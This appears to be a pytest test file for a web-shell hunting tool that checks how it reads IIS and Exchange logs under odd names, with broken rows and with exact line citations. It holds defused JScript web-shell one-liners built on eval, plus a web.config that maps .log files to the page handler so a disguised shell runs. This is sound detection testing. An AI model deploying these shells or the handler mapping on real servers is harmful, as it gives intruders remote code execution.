"""Stories of logs as files: any name, odd content, quoted attackers, broken rows, and exact citations."""

from __future__ import annotations

import codecs
import gzip
import re
from pathlib import Path
from typing import Any

import pytest

import webshellhunt as wsh
from tests.builders import logs as log_files
from tests.builders.inert import live
from tests.stories.evidence import (
    IIS_LOGS,
    INTRUDER,
    LOGGING_FOLDER,
    SITE,
    Ran,
    Server,
    Told,
    at,
    on_server,
    ordinary_rows,
    row,
    shell,
    times,
    w3c,
    write,
)
from webshellhunt.model.traffic import LogKind

X1 = "/aspnet_client/x1.aspx"
QUOTE = live('<%@Page+Language="Jscript"%><%ev·al(Req·uest.Item["k"],"uns·afe");%>')
PAGE = live(
    '<scr·ipt+lang·uage="JScript"+run·at="server">function+Page_Load(){ev·al(Req·uest["k"],"uns·afe");}</scr·ipt>'
)


def used(*more: log_files.Row) -> list[log_files.Row]:
    """Return a day with three uses of a shell."""
    mine = [row(f"03 04:0{n}:30", X1, "POST") for n in (5, 6, 7)]
    return sorted([*ordinary_rows("03"), *mine, *more], key=lambda each: str(each["when"]))  # type: ignore[index]


def planted(data: bytes | None = None, name: str = "u_ex210303.log") -> Server:
    server = Server()
    server.shell()
    if data is not None:
        server.add(f"{IIS_LOGS}/W3SVC1/{name}", data)
    return server


def cited_rows(told: Told, name: str, data: bytes) -> list[str]:
    """Return the rows that the findings about a subject cite."""
    lines = data.decode("utf-8-sig").splitlines()
    return [lines[line - 1] for _, line in told.cited(name)]


# any log, whatever its name


@pytest.mark.parametrize("name", ["evidence.txt", "web-2021.dat", "export", "W3SVC1-march.csv", "access.log.1"])
def test_a_log_of_iis_by_any_name(name: str, tmp_path: Path) -> None:
    place = write(tmp_path, {name: w3c(*used())}) / name
    told = Ran("logs", place)
    assert told.status in (0, 1), (told.status, told.errors)
    assert told.summary["traffic"]
    assert sum(each["rows"] for each in told.summary["traffic"]["coverage"]) == 63


@pytest.mark.parametrize("name", ["evidence.txt", "export"])
def test_a_log_given_to_hunt_is_read_as_a_log(name: str, tmp_path: Path) -> None:
    place = write(tmp_path, {name: w3c(*used())}) / name
    told = Ran("hunt", place)
    traffic = told.summary["traffic"]
    assert traffic, told.raw_text
    assert sum(each["rows"] for each in traffic["coverage"]) == 63, told.raw_text
    told.never(r"benign")


def test_a_further_log_by_any_name_counts(tmp_path: Path) -> None:
    server = write(tmp_path / "EXCH01", planted().below("C"))
    extra = write(tmp_path / "extra", {"old rows.txt": w3c(*used())}) / "old rows.txt"
    told = Ran("hunt", server, "--logs", extra)
    assert told.use("x1.aspx")["answered"] == 3


@pytest.mark.parametrize("command", ["logs", "--logs"])
def test_a_text_that_is_no_log_is_refused(command: str, tmp_path: Path) -> None:
    note = write(tmp_path / "n", {"note.txt": b"Dear all,\nthe meeting is at nine.\n"}) / "note.txt"
    server = write(tmp_path / "EXCH01", Server().below("C"))
    told = Ran("logs", note) if command == "logs" else Ran("hunt", server, "--logs", note)
    assert told.status == 2, (told.status, told.text[:200])
    assert "note.txt" in told.errors, told.errors


def test_a_compressed_log_by_another_name(tmp_path: Path) -> None:
    place = write(tmp_path, {"march.bin": gzip.compress(w3c(*used()), mtime=0)}) / "march.bin"
    told = Ran("logs", place)
    assert told.status in (0, 1), (told.status, told.errors)
    assert sum(each["rows"] for each in told.summary["traffic"]["coverage"]) == 63


def test_a_log_of_the_front_end_by_another_name(tmp_path: Path) -> None:
    data = log_files.text_log(LogKind.HTTP_PROXY, *(log_files.row(f"2021-03-03 04:0{n}:00", "/owa/") for n in range(4)))
    told = Ran("logs", write(tmp_path, {"proxy.txt": data}) / "proxy.txt")
    assert told.status in (0, 1), (told.status, told.errors)
    assert [each["log"] for each in told.summary["traffic"]["coverage"]] == ["http_proxy"]


def test_events_as_json_lines_by_another_name(tmp_path: Path) -> None:
    event = (
        '{"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Eventlog"}}, "EventID": 1102, '
        '"TimeCreated": {"#attributes": {"SystemTime": "2021-03-03T04:05:06Z"}}, "EventRecordID": 5, '
        '"Channel": "Security", "Computer": "EXCH01"}, '
        '"UserData": {"LogFileCleared": {"SubjectUserName": "admin"}}}}\n'
    )
    told = Ran("logs", write(tmp_path, {"events.dat": event.encode()}) / "events.dat")
    assert told.status in (0, 1), (told.status, told.errors)
    told.says("cleared")


# logs are never suspects


@pytest.mark.parametrize("where", ["agent", "path", "referer", "query"])
def test_a_row_that_quotes_a_shell_accuses_no_log(where: str) -> None:
    plain = row("03 04:20:00", f"/{QUOTE}", status=404) if where == "path" else row("03 04:20:00", "/")
    quote = plain if where == "path" else {**plain, where: QUOTE}
    server = Server()
    server.add(f"{IIS_LOGS}/W3SVC1/u_ex210303.log", w3c(*ordinary_rows("03"), quote))
    told = server.hunt()
    assert not [each for each in told.accused if each["subject_kind"] == "file"], told.names
    assert not told.moments("planted"), told.moments("planted")


def test_a_log_of_exchange_that_quotes_a_shell_is_no_file_of_the_intruder() -> None:
    server = Server()
    server.visitors("03")
    server.logs.ecp_server(
        at("03 04:10:08"), f"Set-OabVirtualDirectory.ExternalUrl='http://f/{PAGE.replace('+', ' ')}'"
    )
    told = server.hunt()
    files = [each for each in told.accused if each["subject_kind"] == "file"]
    assert not files, [each["path"] for each in files]
    assert not [each for each in told.moments("planted") if each["path"].upper().endswith(".LOG")]
    told.never(r"Remove (this|these) files?:.{0,300}\.LOG")


def test_a_front_end_log_that_quotes_a_shell_is_no_file_of_the_intruder() -> None:
    server = Server()
    data = log_files.text_log(
        LogKind.HTTP_PROXY,
        log_files.row("2021-03-03 04:05:06", "/owa/", agent=QUOTE.replace("+", " ").replace(",", " ")),
    )
    server.add(f"{LOGGING_FOLDER}/HttpProxy/Owa/HttpProxy_2021030304-1.LOG", data)
    told = server.hunt()
    assert not [each for each in told.accused if each["subject_kind"] == "file"], told.names


def test_a_comparison_after_a_clean_up_that_keeps_the_logs_says_gone() -> None:
    quote = row("03 04:20:00", "/", agent=QUOTE)
    before = planted(w3c(*used(quote)))
    after = planted(w3c(*used(quote)))
    after.remove("x1.aspx")
    compared = wsh.compare(before.hunt().reports[0], after.hunt().reports[0])
    changes = {each.path: str(each.kind) for host in compared.hosts for each in host.changes}
    assert not [path for path in changes if path.lower().endswith(".log")], changes
    assert str(compared.state) == "all_gone", (compared.sentence, changes)


def test_a_shell_with_the_name_of_a_log_and_a_handler_stays_convicted() -> None:
    server = Server()
    server.visitors("03")
    config = live(
        '<?xml version="1.0"?><configuration><system.webServer><handlers><add name="l" pa·th="*.lo·g" verb="*" '
        'type="System.Web.UI.PageHand·lerFactory" /></handlers></system.webServer><system.web>'
        "<compilation><buildProviders>"
        '<add exten·sion=".lo·g" type="System.Web.Compilation.PageBuildProvider" /></buildProviders>'
        "</compilation></system.web></configuration>"
    )
    server.add(f"{SITE}/aspnet_client/web.config", config, at("03 04:00:00"))
    server.add(f"{SITE}/aspnet_client/u_ex210303.log", w3c(row("03 04:00:00", "/")) + shell(), at("03 04:00:00"))
    told = server.hunt()
    assert told.one(r"aspnet_client\u_ex210303.log")["disposition"] == "malicious", told.names


def test_a_shell_that_a_page_includes_is_no_log() -> None:
    server = Server()
    server.visitors("03")
    server.add(f"{SITE}/inc/u_ex210303.log", w3c(row("03 04:00:00", "/")) + shell(), at("03 04:00:00"))
    server.add(
        f"{SITE}/inc/a.aspx",
        '<%@ Page Language="JScript" %>\n<!-- #include file="u_ex210303.log" -->\n',
        at("03 04:00:00"),
    )
    told = server.hunt()
    assert told.accused, told.sentence


# missing columns and bad input


def without(column: str, data_rows: list[log_files.Row]) -> bytes:
    return w3c(*data_rows, fields=re.sub(rf" {re.escape(column)}(?= |$)", "", log_files.IIS_FIELDS))


def test_a_log_without_the_status_leaves_use_unknown() -> None:
    told = planted(without("sc-status", used())).hunt()
    told.never(r"never answered|not answered|answered 0|none of (them|which) (was )?answered|\b0 times")
    told.never(r"not requested")
    told.says(r"sc-status|status (is|was) (not logged|unknown|missing)|without (a|the) status|no status")


def test_a_log_without_the_user_is_read_as_usual() -> None:
    told = planted(without("cs-username", used())).hunt()
    use = told.use("x1.aspx")
    assert (use["answered"], use["clients"]) == (3, [INTRUDER])


def test_a_log_without_the_client_names_nobody() -> None:
    told = planted(without("c-ip", used())).hunt()
    assert told.use("x1.aspx")["answered"] == 3
    assert not told.blocked, told.blocked
    assert "10.0.0.5" not in told.sentence, told.sentence


def test_a_log_without_the_method_counts_requests() -> None:
    told = planted(without("cs-method", used())).hunt()
    assert told.use("x1.aspx")["requests"] == 3
    told.never("not requested")


def test_zeros_inside_a_log_lose_no_later_row() -> None:
    data = w3c(*used())
    lines = data.split(b"\r\n")
    at_row = next(n for n, each in enumerate(lines) if b"04:05:30" in each)
    broken = b"\r\n".join([*lines[:at_row], bytes(4096), *lines[at_row:]])
    told = planted(broken).hunt()
    assert told.use("x1.aspx")["answered"] == 3
    assert told.use("x1.aspx")["last_utc"] == "2021-03-03T04:07:30Z"


def test_a_very_long_line_loses_no_other_row() -> None:
    data = w3c(*used())
    lines = data.split(b"\r\n")
    at_row = next(n for n, each in enumerate(lines) if b"04:05:30" in each)
    broken = b"\r\n".join([*lines[:at_row], b"x" * 3_000_000, *lines[at_row:]])
    told = planted(broken).hunt()
    assert told.use("x1.aspx")["answered"] == 3


def test_a_header_in_the_middle_with_other_columns() -> None:
    rows = used()
    first, second = rows[:30], rows[30:]
    data = w3c(*first) + w3c(*second, fields=log_files.IIS_FIELDS_ALL)
    told = planted(data).hunt()
    assert told.use("x1.aspx")["answered"] == 3
    assert told.summary["traffic"]["coverage"][0]["broken"] == 0


def test_a_log_that_is_cut_off_in_a_row() -> None:
    data = w3c(*used())
    cut = data[: data.index(b"04:07:30") + 60]
    told = planted(cut).hunt()
    assert told.use("x1.aspx")["answered"] == 2


def test_rows_without_any_header_are_told() -> None:
    lines = w3c(*used()).split(b"\r\n")
    headless = b"\r\n".join(each for each in lines if not each.startswith(b"#"))
    told = planted(headless).hunt()
    told.never(r"x1\.aspx.{0,80}not requested")
    told.never("not requested in the logs")


def test_a_log_of_ncsa_leaves_use_unknown() -> None:
    line = f'{INTRUDER} - - [03/Mar/2021:04:05:30 +0000] "POST {X1} HTTP/1.1" 200 1234\r\n'
    server = planted()
    server.add(f"{IIS_LOGS}/W3SVC1/nc210303.log", line * 3)
    told = server.hunt()
    told.never(r"not requested")
    assert told.one("x1.aspx")["use"] is None, told.one("x1.aspx")["use"]
    told.says("nc210303.log|NCSA")


def test_ncsa_next_to_w3c_of_other_days_leaves_use_incomplete() -> None:
    line = f'{INTRUDER} - - [03/Mar/2021:04:05:30 +0000] "POST {X1} HTTP/1.1" 200 1234\r\n'
    server = planted(w3c(*ordinary_rows("04")), "u_ex210304.log")
    server.add(f"{IIS_LOGS}/W3SVC1/nc210303.log", line * 3)
    told = server.hunt()
    told.never(r"x1\.aspx[^.]{0,120}not requested")
    told.never(r"\bnot requested in the logs that are here")


def test_a_clock_that_was_set_back_is_told() -> None:
    rows = [*ordinary_rows("03", 30), *[row(f"02 22:0{n}:00", "/owa/") for n in range(5)], *ordinary_rows("04", 10)]
    told = planted(w3c(*rows)).hunt()
    told.says(r"backwards|set back|run back|earlier than above")
    (iis,) = [each for each in told.summary["traffic"]["coverage"] if each["log"] == "iis"]
    assert iis["first_utc"] == "2021-03-02T22:00:00Z", iis


def test_days_missing_inside_a_wave_are_told() -> None:
    server = Server()
    server.shell()
    for day in ("01", "02", "06", "07"):
        server.add(f"{IIS_LOGS}/W3SVC1/u_ex2103{day}.log", w3c(*ordinary_rows(day)))
    told = server.hunt()
    told.says(r"3 missing|2021-03-03 (to|until) 2021-03-05")
    told.never(r"x1\.aspx.{0,60} was never (used|requested)")


def test_logs_that_begin_after_the_planting_do_not_deny_use() -> None:
    server = planted(w3c(*ordinary_rows("20")), "u_ex210320.log")
    told = server.hunt()
    told.says(r"logs (cover|begin|start)")
    told.never(r"never (used|requested)")
    told.says(
        r"(planted|planting).{0,200}(before|not covered|no log)|logs? (of|for) (the|that) (day|"
        r"time).{0,40}(missing|not)"
    )


# citations


FORMS: dict[str, Any] = {
    "plain": lambda data: data,
    "line feeds": lambda data: data.replace(b"\r\n", b"\n"),
    "byte order mark": lambda data: codecs.BOM_UTF8 + data,
    "header repeated": lambda data: data.replace(b"#Software", b"#Software", 1) + data,
    "compressed": lambda data: gzip.compress(data, mtime=0),
}


@pytest.mark.parametrize("form", ["plain", "line feeds", "byte order mark", "compressed"])
def test_first_and_last_use_are_cited_at_their_rows(form: str) -> None:
    data = w3c(*used())
    server = planted()
    name = f"{IIS_LOGS}/W3SVC1/u_ex210303.log" + (".gz" if form == "compressed" else "")
    server.add(name, FORMS[form](data))
    told = server.hunt()
    lines = data.decode().splitlines()
    for kind, when in (("first_used", "04:05:30"), ("last_used", "04:07:30")):
        witness = told.moments(kind)[0]["witness"]
        path, _, line = witness.rpartition(", line ")
        assert path == on_server(name), witness
        assert when in lines[int(line) - 1], (witness, lines[int(line) - 1])


def test_a_repeated_header_moves_the_citation() -> None:
    rows = used()
    data = w3c(*rows[:20]) + w3c(*rows[20:40]) + w3c(*rows[40:])
    told = planted(data).hunt()
    lines = data.decode().splitlines()
    witness = told.moments("first_used")[0]["witness"]
    assert "04:05:30" in lines[int(witness.rpartition(", line ")[2]) - 1], witness


def test_two_logs_of_one_day_cite_the_right_one() -> None:
    rows = used()
    server = planted(w3c(*[each for each in rows if str(each["when"]) < "2021-03-03 04:06:00"]))  # type: ignore[index]
    second = [each for each in rows if str(each["when"]) >= "2021-03-03 04:06:00"]  # type: ignore[index]
    server.add(f"{IIS_LOGS}/W3SVC1/u_ex210303_x.log", w3c(*second))
    told = server.hunt()
    assert told.use("x1.aspx")["answered"] == 3
    assert told.moments("last_used")[0]["witness"].startswith(on_server(f"{IIS_LOGS}/W3SVC1/u_ex210303_x.log"))


def test_the_same_log_twice_counts_once(tmp_path: Path) -> None:
    """A copy of the log in the same folder, as analysts make them, doubles no request."""
    data = w3c(*used())
    server = planted(data)
    server.add(f"{IIS_LOGS}/W3SVC1/copy/u_ex210303.log", data)
    told = server.hunt()
    assert told.use("x1.aspx")["answered"] == 3, told.use("x1.aspx")


def test_a_request_in_iis_and_front_end_logs_counts_once() -> None:
    server = Server()
    server.visitors("03")
    server.shell("owa/auth/x1.aspx")
    for when in times("03 04:05:00", 3):
        from tests.builders.log_rows import Request

        request = Request(when, "POST", "/owa/auth/x1.aspx", INTRUDER)
        server.logs.request(request)
        server.logs.proxy("Owa", request)
    told = server.hunt()
    assert told.use("x1.aspx")["answered"] == 3


def test_front_end_logs_alone_show_the_use() -> None:
    from tests.builders.log_rows import Request

    server = Server()
    server.shell("owa/auth/x1.aspx")
    for when in times("03 04:05:00", 3):
        server.logs.proxy("Owa", Request(when, "POST", "/owa/auth/x1.aspx", INTRUDER))
    told = server.hunt()
    use = told.use("x1.aspx")
    assert (use["answered"], use["clients"]) == (3, [INTRUDER])


def test_the_same_address_on_the_back_end_is_another_file() -> None:
    server = Server()
    server.visitors("03")
    server.shell("owa/auth/x1.aspx")
    server.call("POST", "/owa/auth/x1.aspx", times("03 04:05:00", 3), "10.0.0.5", site=2, port=444)
    told = server.hunt()
    assert told.use("x1.aspx")["answered"] == 0, told.use("x1.aspx")


def test_addresses_in_other_spellings_are_one_page() -> None:
    mine = [row("03 04:05:30", "/ASPNET_CLIENT/X1.ASPX", "POST"),
            row("03 04:06:30", "/aspnet_client/x1%2Easpx", "POST"),
            row("03 04:07:30", "/aspnet_client/x1.aspx/more", "POST")]  # fmt: skip
    told = planted(w3c(*ordinary_rows("03"), *mine)).hunt()
    assert told.use("x1.aspx")["answered"] == 3, told.use("x1.aspx")
